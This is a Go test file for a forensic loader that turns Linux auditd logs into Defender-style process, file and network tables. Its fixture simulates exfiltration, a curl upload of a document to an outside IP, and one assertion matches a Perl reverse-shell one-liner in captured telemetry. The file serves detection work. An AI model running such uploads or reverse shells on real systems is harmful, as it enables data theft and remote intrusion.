package loaders_test

import (
	"strings"
	"testing"

	"exfilhunt/loaders"
)

// stolen is a theft as auditd sees it: a shell starts curl, curl reads a document and connects.
const stolen = `node=web01 type=SYSCALL msg=audit(1717236000.100:1): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=50 pid=60 auid=1000 uid=33 comm="curl" exe="/usr/bin/curl" key="exec"` + "\x1d" + `ARCH=x86_64 SYSCALL=execve AUID="jo" UID="KESTREL\www-data"
node=web01 type=EXECVE msg=audit(1717236000.100:1): argc=4 a0="curl" a1="-T" a2="plan 1.pdf" a3="https://203.0.113.5/"
node=web01 type=SYSCALL msg=audit(1717236000.200:2): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ff a2=0 ppid=50 pid=60 auid=1000 uid=33 comm="curl" exe="/usr/bin/curl" key=(null)
node=web01 type=CWD msg=audit(1717236000.200:2): cwd="/srv/plans"
node=web01 type=PATH msg=audit(1717236000.200:2): item=0 name="plan 1.pdf" mode=0100644 nametype=NORMAL
node=web01 type=SYSCALL msg=audit(1717236000.300:3): arch=c000003e syscall=42 success=no exit=-115 a0=3 ppid=50 pid=60 auid=1000 uid=33 comm="curl" exe="/usr/bin/curl" key="net"
node=web01 type=SOCKADDR msg=audit(1717236000.300:3): saddr=020001BBCB0071050000000000000000
node=web01 type=PROCTITLE msg=audit(1717236000.300:3): proctitle=6375726C002D5400706C616E20312E706466
node=web01 type=SYSCALL msg=audit(1717236000.400:4): arch=c000003e syscall=42 success=no exit=-111 a0=3 ppid=50 pid=61 auid=1000 uid=33 comm="curl" exe="/usr/bin/curl" key="net"
node=web01 type=SOCKADDR msg=audit(1717236000.400:4): saddr=0A0001BB000000000000000000000000000000000000000100000000
node=web01 type=USER_LOGIN msg=audit(1717236000.500:5): pid=1 uid=0 msg='op=login'
node=web01 type=SYSCALL msg=audit(9999999999.000:6): arch=c000003e syscall=59 success=yes pid=x
node=web01 type=SYSCALL msg=audit(1717236000.700:7): arch=c000003e syscall=59 success=yes pid=-4
once upon a time
`

func TestAuditd(t *testing.T) {
	s := tempStore(t)
	r := one(t, s, write(t, "audit.log", stolen))
	if r.Source != "auditd" || r.Lines != 8 || r.Loaded != 4 || r.Rejected != 3 || r.Kinds["USER_LOGIN"] != 1 {
		t.Errorf("%+v", r)
	}
	expect(t, s, `SELECT concat_ws('|', Timestamp, DeviceName, ActionType, FileName, FolderPath, ProcessId, ProcessCommandLine, ProcessCreationTime,
		AccountDomain, AccountName, InitiatingProcessId, InitiatingProcessFileName, AdditionalFields) FROM DeviceProcessEvents`,
		`2024-06-01 10:00:00.1|web01|ProcessCreated|curl|/usr/bin/curl|60|curl -T plan 1.pdf https://203.0.113.5/|2024-06-01 10:00:00.1|KESTREL|www-data|50||{"id":"1717236000.100:1","key":"exec","auid":"jo"}`)
	expect(t, s, `SELECT concat_ws('|', Timestamp, ActionType, FileName, FolderPath, AccountName, InitiatingProcessId, InitiatingProcessFileName, InitiatingProcessFolderPath,
		InitiatingProcessCommandLine, InitiatingProcessCreationTime, InitiatingProcessParentId) FROM DeviceFileEvents`,
		`2024-06-01 10:00:00.2|FileRead|plan 1.pdf|/srv/plans/plan 1.pdf|33|60|curl|/usr/bin/curl||2024-06-01 10:00:00.1|50`)
	expect(t, s, `SELECT concat_ws('|', ActionType, RemoteIP, RemotePort, RemoteIPType, Protocol, AccountName, InitiatingProcessAccountName, InitiatingProcessId,
		InitiatingProcessCommandLine, coalesce(InitiatingProcessCreationTime::VARCHAR, 'NULL'), coalesce(BytesSent::VARCHAR, 'NULL')) FROM DeviceNetworkEvents ORDER BY Timestamp`,
		`ConnectionSuccess|203.0.113.5|443|Public||33|33|60|curl -T plan 1.pdf|2024-06-01 10:00:00.1|NULL`,
		`ConnectionFailed|::1|443|Loopback||33|33|61||NULL|NULL`)
	expect(t, s, `SELECT line || ' ' || reason FROM ingest.rejects ORDER BY line`,
		`12 time: "2286-11-20T17:46:39.000000Z" is not between 1970 and 2200`,
		`13 pid: "-4" is out of range or no whole number`, `14 no audit record`)
}

// A log without a host takes the name of the host whose file system was copied.
func TestAuditdOfACopiedFileSystem(t *testing.T) {
	s := tempStore(t)
	one(t, s, write(t, "web02/var/log/audit/audit.log", strings.ReplaceAll(stolen, "node=web01 ", "")))
	expect(t, s, `SELECT DISTINCT DeviceName FROM DeviceNetworkEvents`, "web02")
}

func TestAuditdCaptures(t *testing.T) {
	s := tempStore(t)
	for _, r := range load(t, s, loaders.Options{}, telemetry(t, "auditd")) {
		if r.Err != nil || r.Rejected > 0 || r.Source != "auditd" {
			t.Errorf("%s: %+v", r.Path, r)
		}
	}
	const file = `FROM ingest.files WHERE path LIKE '%msticpy%'`
	// 157 calls of execve, of which 146 ran a program and have an EXECVE record; no connections; 2 of setsockopt.
	expect(t, s, `SELECT concat_ws(' ', lines_read, DeviceProcessEvents, DeviceNetworkEvents, DeviceFileEvents, rejected, ignored,
		ignored_kinds['SYSCALL execve failed'], ignored_kinds['SYSCALL setsockopt'], ignored_kinds['USER_LOGIN']) `+file, "938 146 0 0 0 792 11 2 191")
	expect(t, s, `SELECT count(*) FROM DeviceProcessEvents WHERE ProcessCommandLine = '' OR FileName = '' OR ProcessId IS NULL OR InitiatingProcessId IS NULL`, "0")
	expect(t, s, `SELECT max(length(ProcessCommandLine)) FROM DeviceProcessEvents`, "8202") // of 16 KiB hex, in pieces
	expect(t, s, `SELECT DISTINCT AccountName FROM DeviceProcessEvents WHERE ProcessCommandLine LIKE 'perl -e use Socket;$i="10.0.0.1"%exec("/bin/sh -i");};'`, "root")
}
